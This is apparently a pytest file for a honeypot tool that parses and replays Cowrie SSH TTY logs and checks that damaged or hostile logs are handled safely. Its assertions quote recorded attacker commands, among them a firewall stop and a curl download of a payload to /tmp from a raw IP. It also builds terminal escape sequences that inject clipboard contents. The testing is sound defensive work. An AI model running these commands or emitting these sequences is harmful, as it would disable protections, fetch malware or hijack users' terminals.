# SPDX-License-Identifier: MIT
"""Cowrie's binary TTY logs: parsed like Cowrie reads them, ingested beside the lake, linked to their sessions,
replayed by ``honeyfarm replay`` and served by ``/api/session/ttylog``; hostile and damaged logs stay harmless."""

from __future__ import annotations

import hashlib
import json
import struct
from collections.abc import Iterator
from pathlib import Path

import pytest
from lakeutil import hf
from webutil import TestClient

from honeyfarm.collect.cowrie_tty import detect, find_in_lake, parse, to_cast
from honeyfarm.config import parse_config
from honeyfarm.pipeline import ingest
from honeyfarm.sensor.capture.ttylog import find_logs
from honeyfarm.views.web.app import create_app
from honeyfarm.views.web.settings import ServeConfig

SAMPLES = Path(__file__).resolve().parents[2] / "shared" / "samples"
TTY = SAMPLES / "cowrie_ttylog"
JSON_0524 = SAMPLES / "cowrie_json" / "kareiva-cowrie-logs_2018-05-24.cowrie.json"
needs_samples = pytest.mark.skipif(
    not (TTY.is_dir() and JSON_0524.is_file()), reason=f"Cowrie TTY log samples not found in {SAMPLES}"
)
HDR = struct.Struct("<iLiiLL")
SENSOR = "920497a79896"
EXEC_SESSION = "23c5bd073f0d"  # in the 2018-05-24 JSON and named in the exec log's file name
NEW_SESSION = "a1b2c3d4e5f6"  # a newer Cowrie's log: named by its hash, linked only by cowrie.log.closed


def rec(op: int, data: bytes = b"", direction: int = 0, t: float = 1_700_000_000.25) -> bytes:
    return HDR.pack(op, 0, len(data), direction, int(t), round((t % 1) * 1e6)) + data


def read_records(raw: bytes) -> list[tuple[int, int, bytes]]:
    """An independent reader, Cowrie's playlog loop: header, then ``length`` bytes (short at the end)."""
    out, pos = [], 0
    while pos + HDR.size <= len(raw):
        op, _tty, length, direction, _s, _u = HDR.unpack_from(raw, pos)
        pos += HDR.size
        out.append((op, direction, raw[pos : pos + length]))
        pos += length
    return out


def cowrie_inputhash(raw: bytes) -> str:
    """Cowrie's ``ttylog_inputhash`` (the name of a closed log and the ``shasum`` of cowrie.log.closed)."""
    return hashlib.sha256(b"".join(d for op, dr, d in read_records(raw) if not (op != 3 and dr != 1))).hexdigest()


NEW_LOG = (
    rec(1, t=1_700_000_000.0)
    + rec(3, b"root@svr04:~# ", 2, 1_700_000_000.1)
    + rec(3, b"uname -a\n", 1, 1_700_000_001.0)
    + rec(3, "uname -a\r\nLinux svr04 3.2.0-4-amd64 \u00e9t\u00e9\r\n".encode(), 2, 1_700_000_001.1)
    + rec(2, t=1_700_000_002.0)
)


def new_style_json(shasum: str) -> str:
    base = {"session": NEW_SESSION, "sensor": "newcowrie", "src_ip": "203.0.113.7", "protocol": "ssh"}
    events = [
        {"eventid": "cowrie.session.connect", "timestamp": "2023-11-14T22:13:19.000000Z", "src_port": 4242,
         "dst_ip": "198.51.100.1", "dst_port": 22, "message": "New connection"},
        {"eventid": "cowrie.command.input", "timestamp": "2023-11-14T22:13:21.000000Z", "input": "uname -a"},
        {"eventid": "cowrie.log.closed", "timestamp": "2023-11-14T22:13:22.000000Z", "size": 57,
         "ttylog": f"var/lib/cowrie/tty/{shasum}", "shasum": shasum, "duplicate": False, "duration": "2.0"},
        {"eventid": "cowrie.session.closed", "timestamp": "2023-11-14T22:13:22.500000Z", "duration": 3.5},
    ]  # fmt: skip
    return "".join(json.dumps({**base, **e}) + "\n" for e in events)


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The sample TTY logs before their JSON; the newer Cowrie's log after its JSON: both orders link."""
    if not (TTY.is_dir() and JSON_0524.is_file()):
        pytest.skip(f"Cowrie TTY log samples not found in {SAMPLES}")
    root = tmp_path_factory.mktemp("ttylake")
    shasum = cowrie_inputhash(NEW_LOG)
    (root / "new").mkdir()
    (root / "new" / "cowrie.json").write_text(new_style_json(shasum), encoding="utf-8")
    (root / "newtty").mkdir()
    (root / "newtty" / shasum).write_bytes(NEW_LOG)
    cfg = parse_config({})
    first = ingest([str(TTY)], cfg, root / "lake")
    assert first.errors == [] and first.to_dict()["by_format"] == {
        "cowrie_ttylog": {"ingested": 3, "duplicates": 0, "dead_letter": 0}
    }
    assert first.files == 3 and first.ingested == 0
    assert ingest([str(JSON_0524), str(root / "new")], cfg, root / "lake").errors == []
    assert ingest([str(root / "newtty")], cfg, root / "lake").errors == []
    yield root / "lake"


@needs_samples
@pytest.mark.parametrize("path", sorted(TTY.glob("*.log")) if TTY.is_dir() else [], ids=lambda p: p.name[:28])
def test_samples_parse_like_cowrie_reads_them(path: Path) -> None:
    raw = path.read_bytes()
    layout = detect(raw[:256], len(raw))
    assert layout is not None and layout.format == HDR.format
    want = read_records(raw)
    writes = [(d, data) for op, d, data in want if op == 3 and data]
    got = parse(path, 1 << 24)
    assert (got.layout, got.records, got.problems) == ("cowrie", len(want), [])
    assert [(k, data) for _t, k, data in got.frames] == [("i" if d == 1 else "o", data) for d, data in writes]
    assert got.data_bytes == sum(len(d) for _, d in writes) and got.shasum == cowrie_inputhash(raw)
    times = [t for t, _k, _d in got.frames]
    assert times == sorted(times) and times[0] >= 0
    cast, cut = to_cast(got, 1 << 24)
    lines = cast.decode("ascii").splitlines()
    assert not cut and json.loads(lines[0])["version"] == 2
    text = "".join(json.loads(ln)[2] for ln in lines[1:] if json.loads(ln)[1] == "o")
    assert text.encode("utf-8") == b"".join(d for dr, d in writes if dr != 1)
    if path.name.endswith("-0e.log"):  # the exec channel: the command's own output
        assert "bash: /etc/init.d/iptables: command not found" in text and "http://96.44.186.212:7744/tfhy" in text


def test_text_logs_and_other_binaries_are_not_tty_logs() -> None:
    for head in (b'{"eventid": "cowrie.session.connect"}\n', b"SQLite format 3\x00" + bytes(100), bytes(64),
                 rec(3, b"x", 2)[:10]):  # fmt: skip
        assert detect(head, len(head)) is None, head


@needs_samples
def test_ingest_links_old_names_and_log_closed_either_order(lake: Path) -> None:
    exec_logs = find_in_lake(lake, EXEC_SESSION)
    assert [json.loads(p.read_text().splitlines()[1])[2][:20] for p in exec_logs] == ["bash: /etc/init.d/ip"]
    assert find_in_lake(lake, EXEC_SESSION, SENSOR) == exec_logs
    assert len(find_in_lake(lake, "9a500fd35329")) == 1  # no JSON for it: its file name links it
    new = find_in_lake(lake, NEW_SESSION)
    assert [p.stem for p in new] == [cowrie_inputhash(NEW_LOG)]
    assert "Linux svr04 3.2.0-4-amd64 \u00e9t\u00e9" in "".join(
        json.loads(x)[2] for x in new[0].read_text().splitlines()[1:]
    )
    assert find_in_lake(lake, "ffffffffffff") == [] and find_in_lake(lake, "../../etc") == []


@needs_samples
def test_reingest_adds_nothing(lake: Path) -> None:
    tty = lake / "_state" / "tty"
    before = {p: p.stat().st_mtime_ns for p in tty.rglob("*") if p.is_file()}
    again = ingest([str(TTY)], parse_config({}), lake)
    assert again.errors == [] and again.ingested == 0
    assert again.to_dict()["by_format"] == {"cowrie_ttylog": {"ingested": 0, "duplicates": 3, "dead_letter": 0}}
    assert {p: p.stat().st_mtime_ns for p in tty.rglob("*") if p.is_file()} == before
    assert not [p for p in tty.rglob("*") if p.name.startswith(".")]  # no temporary file left behind
    # the CLI's summary names the logs (they are not events, so "ingested 0 events" alone would read as nothing)
    p = hf("ingest", "--lake", str(lake), str(TTY), cwd=lake.parent)
    assert p.returncode == 0, p.stderr
    assert "0 Cowrie TTY log(s) (3 already in)" in p.stdout + p.stderr


@needs_samples
def test_replay_prints_typed_commands_with_escapes_stripped(lake: Path, tmp_path: Path) -> None:
    p = hf("replay", "--lake", str(lake), "--spool", str(tmp_path), "--speed", "0", "9a500fd35329", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert "root@svr04:~# service iptables stop" in p.stdout
    assert "curl http://115.239.248.235:283/systma -o /tmp/systma" in p.stdout
    assert "\x1b" not in p.stdout and "\\x1b[4h" in p.stdout  # a private mode is shown, never executed
    with pytest.raises(FileNotFoundError, match="nor a Cowrie TTY log of it in the lake"):
        find_logs(tmp_path, "0123456789ab", lake)


@needs_samples
def test_api_serves_the_converted_logs_of_a_session(lake: Path) -> None:
    with TestClient(create_app(lake, ServeConfig()), base_url="http://127.0.0.1") as c:
        page = c.get("/api/session", params={"sensor": SENSOR, "session": EXEC_SESSION}).json()
        assert page["ttylog"] is True
        tty = c.get("/api/session/ttylog", params={"sensor": SENSOR, "session": EXEC_SESSION}).json()
        text = "".join(f[1] for f in tty["frames"])
        assert "iptables: command not found" in text and "\x1b" not in text and not tty["truncated"]
        assert tty["duration"] >= tty["frames"][-1][0] > 5  # the download took ten seconds
        new = c.get("/api/session/ttylog", params={"sensor": "newcowrie", "session": NEW_SESSION}).json()
        assert "Linux svr04" in "".join(f[1] for f in new["frames"])
        # The session exists only under its own sensor: another sensor's name finds no log.
        assert c.get("/api/session/ttylog", params={"sensor": "other", "session": EXEC_SESSION}).status_code == 404
        assert c.get("/api/session", params={"sensor": SENSOR, "session": "ea008b494d0b"}).json()["ttylog"] is False


def test_hostile_and_damaged_logs_keep_what_parses(tmp_path: Path) -> None:
    osc = b"\x1b]0;pwned\x07\x1b]52;c;ZWNobyBwd25lZA==\x07\x1bP+q\x1b\\"
    good = rec(1) + rec(3, osc + b"\x1b[31mred\x1b[0m\r\nok\r\n", 2) + rec(3, b"\xe2\x82", 2) + rec(3, b"\xac\n", 2)
    files = {
        "overlong": good + HDR.pack(3, 0, 0x7FFFFFFF, 2, 1_700_000_001, 0) + b"tail of a cut record",
        "negative": good + HDR.pack(3, 0, -5, 2, 1_700_000_001, 0) + b"junk",
        "cut-header": good + rec(3, b"lost", 2)[:13],
        "bad-op": good + HDR.pack(77, 0, 4, 2, 1, 0) + b"junk",
    }
    for name, raw in files.items():
        (tmp_path / "in").mkdir(exist_ok=True)
        (tmp_path / "in" / f"{name}.log").write_bytes(raw)
    got = ingest([str(tmp_path / "in")], parse_config({}), tmp_path / "lake")
    assert got.to_dict()["by_format"] == {"cowrie_ttylog": {"ingested": 2, "duplicates": 2, "dead_letter": 4}}
    assert sorted(e.split(":")[1].strip() for e in got.errors) == sorted(str(tmp_path / "in" / f"{n}.log")
                                                                          for n in files)  # fmt: skip
    assert all(e.startswith("damaged Cowrie TTY log: ") for e in got.errors)
    assert any("claims 2,147,483,647 bytes, the file holds 20 more" in e for e in got.errors)
    again = ingest([str(tmp_path / "in")], parse_config({}), tmp_path / "lake")
    assert again.dead_letter == 0 and len(again.errors) == 4  # still reported, recorded once
    p = parse(tmp_path / "in" / "overlong.log", 1 << 20)
    assert [d for _t, _k, d in p.frames][-1] == b"tail of a cut record" and p.records == 5
    # Three files hold the same records before their damage: one log, as Cowrie names logs by that data.
    assert len(list((tmp_path / "lake" / "_state" / "tty").glob("*.cast"))) == 2
    from honeyfarm.sensor.capture.ttylog import frames, sanitize

    path = parse(tmp_path / "in" / "negative.log", 1 << 20)
    data, _ = to_cast(path, 1 << 20)
    (tmp_path / "neg.cast").write_bytes(data)
    shown = "".join(sanitize(t) for _t, k, t in frames(tmp_path / "neg.cast") if k == "o")
    assert "\x1b]" not in shown and "\x07" not in shown and "\x1bP" not in shown
    assert "\x1b[31mred\x1b[0m" in shown and "\u20ac\n" in shown  # colours kept; a euro split over two records


def test_cap_cuts_the_converted_log_with_a_message(tmp_path: Path) -> None:
    lines = b"".join(rec(3, f"line {i:05d} of output\r\n".encode(), 2, 1_700_000_000 + i) for i in range(1000))
    (tmp_path / "big.log").write_bytes(rec(1) + lines + rec(2))
    got = ingest([str(tmp_path / "big.log")], parse_config({"sensor": {"limits": {"ttylog_bytes": 4096}}}),
                 tmp_path / "lake")  # fmt: skip
    assert len(got.errors) == 1 and "capped at 4,096 bytes (sensor.limits.ttylog_bytes)" in got.errors[0]
    (cast,) = (tmp_path / "lake" / "_state" / "tty").glob("*.cast")
    assert cast.stat().st_size <= 4096
    last = json.loads(cast.read_text().splitlines()[-1])
    assert last[2].startswith("line 00") and last[0] > 10
